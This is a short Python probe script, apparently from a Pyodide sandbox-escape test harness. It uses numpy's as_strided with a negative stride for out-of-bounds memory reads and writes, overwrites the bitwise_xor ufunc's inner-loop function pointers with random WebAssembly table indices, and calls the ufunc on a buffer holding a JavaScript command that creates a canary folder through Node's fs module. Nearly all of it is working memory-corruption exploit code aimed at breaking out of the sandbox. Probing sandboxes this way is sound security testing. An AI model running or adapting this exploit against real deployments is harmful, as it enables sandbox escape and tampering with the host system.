# Goal: put another index of the function table where a ufunc keeps the pointer of its inner loop, and let numpy call it.
# probe: plain Pyodide has no such package
# expect: ok, error, crashed, timeout
import random
import struct
import numpy as np
from numpy.lib.stride_tricks import as_strided
start = np.zeros(1, np.uint8)
base = start.__array_interface__["data"][0]
below = as_strided(start, (base + 1,), (-1,))
def word(address): return int.from_bytes(bytes(below[base - address - n] for n in range(4)), "little")
def poke(address, value):
    for n, byte in enumerate(struct.pack("<I", value)): below[base - address - n] = byte
text = f"process.getBuiltinModule('fs').mkdirSync('{canary['folder']}/{canary['token']}')".encode() + b"\0"
operands = np.frombuffer(text * 8, np.uint8)
# PyUFuncObject: object head, nin, nout, nargs, identity, functions.
functions = word(id(np.bitwise_xor) + 8 + 16)
index = random.randrange(1, 12_000)
for n in range(20): poke(functions + 4 * n, index)
np.bitwise_xor(operands, operands)
index
